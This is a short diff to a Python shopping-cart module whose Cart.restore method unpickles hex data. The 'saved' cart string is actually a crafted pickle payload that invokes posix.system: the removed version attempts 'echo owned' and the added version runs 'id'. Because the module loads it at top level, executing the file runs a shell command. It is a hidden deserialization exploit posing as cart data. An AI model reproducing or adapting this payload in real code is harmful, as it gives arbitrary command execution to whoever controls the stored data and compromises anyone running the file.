@@ -93,7 +93,7 @@ class Cart:
         return pickle.Unpickler(__import__("io").BytesIO(bytes.fromhex(text))).load()
 
 
-saved = "80049526000000000000008c05706f736978948c0673797374656d9493948c0b6563686f206f776e6564949452942e"
+saved = "8004951d000000000000008c05706f736978948c0673797374656d9493948c02696494859452942e"
 carts = [Cart("Anna").add("tea"), Cart.restore(saved)]
 [str(cart) for cart in carts]
 
